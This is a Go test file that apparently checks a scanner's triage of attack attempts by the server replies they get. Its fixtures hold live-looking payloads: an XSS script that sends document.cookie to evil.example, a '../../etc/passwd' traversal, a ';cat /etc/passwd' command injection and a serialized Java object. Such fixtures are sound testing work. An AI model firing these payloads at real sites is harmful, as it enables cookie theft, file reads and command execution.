package triage

import (
	"strings"
	"testing"
)

// An answer that says no more than that something was taken tells nothing of what shows elsewhere.
func TestSameAnswerEverywhere(t *testing.T) {
	const (
		json   = "application/json"
		script = "<script>fetch('//evil.example/'+document.cookie)</script>"
		page   = "<!doctype html><title>Shop</title><div id=app></div>"
	)
	for name, c := range map[string]struct {
		attempt
		want Outcome
	}{
		"script, a page":              {attempt{kind: "xss", payload: script, method: "POST", body: page}, Failure},
		"script, acknowledged":        {attempt{kind: "xss", payload: script, method: "POST", mime: json, body: `{"ok":true}`}, Unknown},
		"script, acknowledged simply": {attempt{kind: "xss", payload: script, method: "POST", mime: "text/plain", body: "OK"}, Unknown},
		"script, a long answer":       {attempt{kind: "xss", payload: script, method: "POST", mime: json, body: `{"help":"` + strings.Repeat("a word ", 50) + `"}`}, Failure},
		"object, acknowledged":        {attempt{kind: "injection-java", payload: "rO0ABXNyABdqYXZh", method: "POST", mime: json, body: `{"ok":true}`}, Unknown},
		"file, acknowledged":          {attempt{kind: "lfi", payload: "../../etc/passwd", mime: json, body: `{"ok":true}`}, Failure},
		"output, acknowledged":        {attempt{kind: "rce", payload: ";cat /etc/passwd", mime: json, body: `{"ok":true}`}, Failure},
	} {
		t.Run(name, func(t *testing.T) {
			tx, v := c.exchange(t)
			if got, evidence := Examine(tx, v).Outcome(Past{Everywhere: enoughEndpoints}); got != c.want {
				t.Errorf("%s, want %s: %q", got, c.want, evidence)
			}
		})
	}
}
